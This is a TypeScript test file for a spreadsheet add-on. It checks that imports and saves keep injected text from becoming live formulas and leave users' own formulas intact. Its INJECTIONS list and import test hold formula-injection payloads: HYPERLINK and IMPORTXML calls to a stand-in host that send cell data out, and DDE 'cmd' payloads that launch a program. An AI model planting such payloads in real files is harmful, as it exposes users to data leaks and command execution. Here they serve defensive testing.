// Issue 20, item 1, through the bundle: a routine save never turns stored text into a live
// formula and never replaces a user's formula with its value.
import { demoWorkspace, records, runFromClient, Workspace, Addon } from './harness';

function ok(ws: Workspace, addon: Addon, fn: string, ...args: unknown[]) {
  const reply = runFromClient(ws, addon, fn, args);
  if (!reply.ok) throw new Error(`${fn}: ${reply.error.message}`);
  return reply.value;
}

/** Every formula of a tab, as "row:column formula" (read as a script would: the snapshot has none). */
function formulasOf(ws: Workspace, tab: string): string[] {
  const grid: string[][] = ws.execute(() => ws.globals.SpreadsheetApp.getActive().getSheetByName(tab).getDataRange().getFormulas());
  const out: string[] = [];
  grid.forEach((line, r) => line.forEach((f, c) => {
    if (f) out.push(`${r + 1}:${c + 1} ${f}`);
  }));
  return out;
}

const INJECTIONS = [
  '=HYPERLINK("http://evil.test/steal","x")',
  '=IMPORTXML("http://evil.test/?d="&A1,"//a")',
  "=cmd|' /C calc'!A0",
  '+HYPERLINK("http://evil.test","x")',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=HYPERLINK("http://evil.test","x")',
  '\r=HYPERLINK("http://evil.test","x")',
  ' =HYPERLINK("http://evil.test","x")',
  '=1+1',
  "'=already quoted",
];

function firstCard(board: any, stage: string, manager: string) {
  return board.columns.find((c: any) => c.key === stage).cards.find((c: any) => c.manager === manager);
}

describe('formula-safe writes through the bundle', () => {
  test('an imported note =HYPERLINK(…) stays text when the client is saved again', () => {
    const { ws, addon } = demoWorkspace(80);
    const note = '=HYPERLINK("http://evil.test/steal","x")';
    const quoted = `"${note.replace(/"/g, '""')}"`;
    // Notes sits before the version columns; Address and City lie between them and Call back,
    // inside the block the old save rewrote from what it read.
    const content = ['Name;Telefon;Notes;Address;City', `Evil Corp;+49 30 5550001;${quoted};${quoted};${quoted}`].join('\r\n');
    const prepared = ok(ws, addon, 'api_prepareImport', { fileName: 'evil.csv', kind: 'csv', content });
    ok(ws, addon, 'api_dryRunImport', prepared.importId, prepared.mapping);
    ok(ws, addon, 'api_runImport', prepared.importId, prepared.mapping);
    const imported = records(ws, 'Clients').find((c) => c.Name === 'Evil Corp')!;
    expect([imported.Notes, imported.Address, imported.City]).toEqual([note, note, note]);
    expect(formulasOf(ws, 'Clients')).toEqual([]);

    const card = ok(ws, addon, 'api_getClient', imported.ID);
    ok(ws, addon, 'api_updateClient', imported.ID, { callBack: true }, card.client ? card.client.version : card.version);
    const saved = records(ws, 'Clients').find((c) => c.ID === imported.ID)!;
    expect(saved['Call back']).toBe(true);
    expect([saved.Notes, saved.Address, saved.City]).toEqual([note, note, note]);
    expect(formulasOf(ws, 'Clients')).toEqual([]);
  });

  test('api_updateDeal stores every injection payload as text, and saving again keeps it text', () => {
    const { ws, addon } = demoWorkspace(80, 'anna@studio.test');
    let card = firstCard(addon.api_getBoard(), 'new', 'anna@studio.test');
    for (const payload of INJECTIONS) {
      card = addon.api_updateDeal(card.id, { notes: payload }, card.version);
      // An unrelated save of the same row: the block between Title and Notes is not rewritten.
      card = addon.api_updateDeal(card.id, { title: `Deal ${payload.length}` }, card.version);
      const row = records(ws, 'Deals').find((d) => d.ID === card.id)!;
      expect(String(row.Notes).trim()).toBe(payload.trim().replace(/^'/, "'"));
      expect(formulasOf(ws, 'Deals')).toEqual([]);
    }
  });

  test("a user's formula in one of our columns and in their own column survives an unrelated save", () => {
    const { ws, addon } = demoWorkspace(80, 'anna@studio.test');
    const card = firstCard(addon.api_getBoard(), 'new', 'anna@studio.test');
    const header = ws.readSheet('Deals').values[0] as string[];
    const rowNumber = (ws.readSheet('Deals').values as unknown[][]).findIndex((r) => r[header.indexOf('ID')] === card.id) + 1;
    const titleCol = header.indexOf('Title') + 1;
    const notesCol = header.indexOf('Notes') + 1;
    const amountCol = header.indexOf('Amount') + 1;
    ws.execute(() => {
      const sheet = ws.globals.SpreadsheetApp.getActive().getSheetByName('Deals');
      // Their own column, between two columns the save changes.
      sheet.insertColumnAfter(titleCol);
      sheet.getRange(1, titleCol + 1).setValue('My check');
      sheet.getRange(rowNumber, titleCol + 1).setFormula(`=LEN(B${rowNumber})`);
      sheet.getRange(rowNumber, amountCol + 1).setFormula('=1200*2');
    }, { user: 'owner@studio.test' });
    const before = formulasOf(ws, 'Deals');
    expect(before).toHaveLength(2);
    addon.api_updateDeal(card.id, { title: 'Renamed by Anna', notes: 'Called, all fine', budget: 1234 }, card.version);
    expect(formulasOf(ws, 'Deals')).toEqual(before);
    const row = records(ws, 'Deals').find((d) => d.ID === card.id)!;
    expect(row.Title).toBe('Renamed by Anna');
    expect(row.Notes).toBe('Called, all fine');
    expect(row.Amount).toBe(2400);
    expect(notesCol).toBeGreaterThan(titleCol);
  });
});
